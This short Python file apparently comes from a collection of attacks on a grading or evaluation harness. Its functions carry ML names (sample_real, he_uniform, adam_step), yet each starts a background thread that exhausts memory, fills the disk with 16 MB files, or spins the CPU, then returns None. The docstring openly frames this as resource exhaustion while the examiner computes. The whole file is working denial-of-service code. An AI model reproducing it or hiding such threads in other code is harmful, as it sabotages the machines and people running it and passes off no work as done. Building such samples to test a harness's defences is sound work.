"""Answers at once, and goes on in threads while the examiner computes: takes memory, the disk and computing time.

Aim: what nobody looks at while nobody asks.
Defence: watch, counted time
Control: none: it would take all memory
Part: function_gan
"""

import mmap
import os
import threading
import time

kept = []


def take_memory():
    while True:
        kept.append(b"x" * (16 << 20))


def take_disk():
    for number in range(10**9):
        try:
            with open(f"attack-{number % 100}", "w+b") as file:
                file.write(bytes(16 << 20))
                kept.append(mmap.mmap(file.fileno(), 4096))
        except OSError:
            time.sleep(0.01)


def burn():
    while True:
        pass


def begin(work):
    threading.Thread(target=work, daemon=True).start()
    time.sleep(0.5)


def sample_real(n, curve, rng):
    begin(take_memory)
    return None


def he_uniform(shape, rng):
    begin(take_disk)
    return None


def adam_step(params, grads, state, **options):
    begin(burn)
    return None
